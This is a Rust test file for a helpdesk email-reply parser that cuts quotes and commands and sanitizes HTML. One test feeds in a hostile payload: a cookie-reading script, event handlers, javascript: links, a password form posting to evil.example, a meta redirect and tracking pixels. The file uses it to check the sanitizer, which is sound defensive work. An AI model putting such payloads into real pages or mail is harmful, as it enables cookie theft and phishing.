use super::*;

/// An answer as Outlook for Windows writes it: Word HTML with `MsoNormal` paragraphs, a bold
/// line, a numbered list, a pasted screenshot, the signature, then the quoted notification
/// under its `border-top` header block (with an image of its own).
pub(crate) const OUTLOOK: &str = r##"<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>RE: Printer</title>
<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} --></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head>
<body lang="EN-GB" link="#0563C1"><div class="WordSection1">
<p class="MsoNormal">#pending<o:p></o:p></p>
<p class="MsoNormal">Hello Mona,<o:p></o:p></p>
<p class="MsoNormal"><b>Please switch the printer off at the wall.</b><o:p></o:p></p>
<ol style="margin-top:0cm" start="1" type="1">
<li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Unplug the cable<o:p></o:p></li>
<li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Wait ten minutes<o:p></o:p></li>
</ol>
<p class="MsoNormal"><img width="320" height="200" style="width:3.3in" id="Picture_x0020_1" src="cid:image001.png@01DB1234.56789AB0" alt="Screenshot of the settings"><o:p></o:p></p>
<p class="MsoNormal">Kind regards,<br>Alice &amp; the team<o:p></o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>From:</b> Example Support &lt;support+4.0123456789abcdef0123@example.test&gt;<br><b>Sent:</b> Monday, November 23, 2026 10:00 AM</p>
</div>
<p class="MsoNormal">##- Please type your reply above this line -##</p>
<p class="MsoNormal"><img src="cid:photo.jpg@customer"></p>
</div></body></html>"##;

/// An answer as Gmail writes it: `div dir="ltr"` lines, then `gmail_quote`.
pub(crate) const GMAIL: &str = r##"<div dir="ltr"><div>Hello Mona,</div><div><br></div><div><b>Please switch the printer off.</b></div><ul><li>Unplug the cable</li><li>Wait <i>ten</i> minutes</li></ul><div><img src="cid:ii_m1abc" alt="image.png" width="300"><br></div><div>See <a href="https://example.test/kb/42">the guide</a>.</div><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">Alice</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, 23 Nov 2026 at 10:00, Example Support &lt;<a href="mailto:support+4.0123456789abcdef0123@example.test">support+4.0123456789abcdef0123@example.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">##- Please type your reply above this line -##<br>It smokes.</blockquote></div>"##;

#[test]
fn outlook_answer_keeps_bold_list_image_and_signature_without_quote_or_commands() {
    let out = answer(OUTLOOK).expect("an answer above the quote");
    assert!(
        out.html
            .contains("<b>Please switch the printer off at the wall.</b>"),
        "{}",
        out.html
    );
    assert!(out.html.contains("<ol"), "{}", out.html);
    assert!(
        out.html.contains("<li") && out.html.contains("Wait ten minutes"),
        "{}",
        out.html
    );
    assert!(
        out.html
            .contains("src=\"cid:image001.png@01DB1234.56789AB0\""),
        "{}",
        out.html
    );
    assert!(out.html.contains("Alice &amp; the team"), "{}", out.html);
    for gone in [
        "#pending",
        "From:",
        "support+",
        "##-",
        "photo.jpg",
        "MsoNormal",
        "RE: Printer",
        "Calibri",
        "shapedefaults",
    ] {
        assert!(!out.html.contains(gone), "{gone}: {}", out.html);
        assert!(!out.text.contains(gone), "{gone}: {}", out.text);
    }
    assert_eq!(
        out.text,
        "Hello Mona,\n*Please switch the printer off at the wall.*\n1. Unplug the cable\n2. Wait ten minutes\n[image: Screenshot of the settings]\nKind regards,\nAlice & the team"
    );
    assert_eq!(
        out.shown.iter().collect::<Vec<_>>(),
        ["image001.png@01DB1234.56789AB0"]
    );
    assert_eq!(out.cut.iter().collect::<Vec<_>>(), ["photo.jpg@customer"]);
}

#[test]
fn gmail_answer_keeps_its_signature_and_link_and_loses_the_quote() {
    let out = answer(GMAIL).expect("an answer above the quote");
    assert!(out.html.contains("<ul>") && out.html.contains("<li>"));
    assert!(out.html.contains("<a href=\"https://example.test/kb/42\""));
    assert!(!out.html.contains("gmail_quote") && !out.html.contains("wrote:"));
    assert!(!out.text.contains("support+") && !out.text.contains("It smokes"));
    assert_eq!(
        out.text,
        "Hello Mona,\n\n*Please switch the printer off.*\n- Unplug the cable\n- Wait ten minutes\n[image: image.png]\nSee the guide <https://example.test/kb/42>.\n\n--\nAlice"
    );
    assert_eq!(out.shown.iter().collect::<Vec<_>>(), ["ii_m1abc"]);
}

#[test]
fn apple_mail_and_thunderbird_quotes_are_cut() {
    let apple = r##"<html><body dir="auto"><div dir="rtl">يرجى إطفاء الطابعة.</div><div><br><blockquote type="cite">On 23 Nov 2026, at 10:00, Example Support wrote:<br><br></blockquote></div><blockquote type="cite"><div>It smokes.</div></blockquote></body></html>"##;
    let out = answer(apple).expect("answer");
    assert!(
        out.html
            .contains("<div dir=\"rtl\">يرجى إطفاء الطابعة.</div>"),
        "{}",
        out.html
    );
    assert!(!out.text.contains("wrote") && !out.text.contains("smokes"));
    let thunderbird = r##"<p>Restart it, please.</p><div class="moz-cite-prefix">On 23/11/2026 10:00, Example Support wrote:<br></div><blockquote type="cite" cite="mid:x@y">It smokes.</blockquote>"##;
    assert_eq!(
        answer(thunderbird).expect("answer").text,
        "Restart it, please."
    );
    let outlook_web = r##"<div dir="ltr">Done.</div><div id="appendonsend"></div><hr style="display:inline-block;width:98%"><div id="divRplyFwdMsg" dir="ltr"><b>From:</b> Example Support</div><div>It smokes.</div>"##;
    assert_eq!(answer(outlook_web).expect("answer").text, "Done.");
}

#[test]
fn a_hostile_answer_loses_scripts_handlers_remote_images_and_forms() {
    let hostile = r##"<div>Hello<script>alert(document.cookie)</script></div><img src="cid:ok@x" onerror="alert(1)"><img src="http://tracker.example/pixel.gif?id=1"><img src="//tracker.example/p.gif"><a href="javascript:alert(1)">click</a><a href="https://example.test/help" onclick="steal()">help</a><form action="https://evil.example/collect"><input name="password"><button>Log in</button></form><iframe src="https://evil.example/"></iframe><p style="background-image:url(http://tracker.example/bg.png);color:red;position:fixed">styled</p><svg onload="alert(1)"></svg><object data="x.swf"></object><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">"##;
    let out = answer(hostile).expect("answer");
    let lower = out.html.to_ascii_lowercase();
    for gone in [
        "<script",
        "alert",
        "onerror",
        "onclick",
        "tracker.example",
        "javascript:",
        "<form",
        "<input",
        "password",
        "log in",
        "evil.example",
        "<iframe",
        "background-image",
        "position",
        "<svg",
        "<object",
        "<base",
        "<meta",
    ] {
        assert!(!lower.contains(gone), "{gone}: {}", out.html);
    }
    assert!(out.html.contains("src=\"cid:ok@x\""), "{}", out.html);
    assert!(
        out.html.contains("href=\"https://example.test/help\""),
        "{}",
        out.html
    );
    assert!(out.html.contains("color:red"), "{}", out.html);
    assert!(!out.text.contains("alert") && !out.text.contains("Log in"));
}

#[test]
fn bottom_posting_and_an_unknown_quote_of_our_marker_fall_back_to_the_text_part() {
    let below = r##"<div class="gmail_quote">On Mon wrote:<blockquote>##- Please type your reply above this line -##</blockquote></div><div>My answer below.</div>"##;
    assert_eq!(answer(below), None, "nothing above the quote");
    let commands_only = "<p>#resolve</p><blockquote type=\"cite\">old</blockquote>";
    assert_eq!(answer(commands_only), None);
    let marker_in_text = "<p>Fine.</p><p>&gt; ##- Please type your reply above this line -##</p>";
    assert_eq!(
        answer(marker_in_text).expect("cut at the marker").text,
        "Fine."
    );
}

#[test]
fn command_lines_go_only_before_the_first_words() {
    let html = "<div>#pending<br>#priority high</div><div>Use #2 tray.</div><div>#close is not a command here</div>";
    let out = answer(html).expect("answer");
    assert_eq!(
        out.text, "Use #2 tray.\n#close is not a command here",
        "{}",
        out.html
    );
}

#[test]
fn a_customers_html_is_shown_whole_but_sanitized() {
    let customer = r##"<html><head><style>body{color:red}</style></head><body><p dir="rtl">الطابعة <b>لا تعمل</b></p><img src="cid:photo@c"><img src="https://tracker.example/open.gif"><script>x()</script><blockquote type="cite">earlier</blockquote></body></html>"##;
    let out = whole(customer);
    assert!(
        out.html
            .contains("<p dir=\"rtl\">الطابعة <b>لا تعمل</b></p>"),
        "{}",
        out.html
    );
    assert!(out.html.contains("earlier"), "nothing is cut for agents");
    assert!(
        !out.html.contains("tracker")
            && !out.html.contains("x()")
            && !out.html.contains("color:red")
    );
    assert_eq!(out.shown.iter().collect::<Vec<_>>(), ["photo@c"]);
}

#[test]
fn percent_encoded_content_ids_are_decoded() {
    let out = whole(r##"<img src="cid:part1%40example.test">"##);
    assert_eq!(out.shown.iter().collect::<Vec<_>>(), ["part1@example.test"]);
}

/// Mail-shaped garbage never panics and never lets a script tag through.
#[test]
fn random_markup_is_survived() {
    let pieces = [
        "<div",
        ">",
        "</div>",
        "<script>",
        "alert(1)",
        "</script>",
        "<b>",
        "text",
        "&amp;",
        "&#0;",
        "<!--",
        "-->",
        "<blockquote type=cite>",
        "##-",
        "-##",
        "\n",
        "<img src=cid:x>",
        "<a href='",
        "'",
        "\"",
        "<style>",
        "#pending",
        "<table><tr><td>",
        "\u{a0}",
        "<",
        "&",
    ];
    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
    for _ in 0..2000 {
        let mut html = String::new();
        for _ in 0..(seed % 40) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            html.push_str(pieces[(seed % pieces.len() as u64) as usize]);
        }
        let out = whole(&html);
        assert!(!out.html.contains("<script"), "{html} → {}", out.html);
        if let Some(out) = answer(&html) {
            assert!(!out.html.contains("<script"), "{html} → {}", out.html);
        }
    }
}
